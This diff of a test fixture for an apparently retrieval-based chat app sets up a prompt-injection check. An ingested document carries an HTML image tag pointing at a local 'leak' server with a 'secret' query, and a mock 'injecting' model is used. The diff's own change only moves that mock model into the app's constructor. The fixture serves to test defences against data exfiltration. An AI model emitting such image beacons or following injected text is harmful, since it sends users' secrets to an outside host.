@@ -114,8 +114,8 @@ def url(tmp_path_factory, leak_server):
         f'<img src="{leak_url}/html.gif?q=secret">\n'
     )
     settings = Settings(data_dir=data, users_file=users, k=4)
-    app = App(settings, embeddings=HashEmbeddings(64))
-    app.__dict__["llm"] = injecting_model(delay=0.08)  # slow enough to watch it stream
+    # the model is slow enough to watch it stream
+    app = App(settings, embeddings=HashEmbeddings(64), llm=injecting_model(delay=0.08))
     assert app.ingestor.ingest([ROOT / "demo/corpus", injected.parent]).ok
     port = free_port()
     demo = launch(app, port=port, prevent_thread_lock=True)
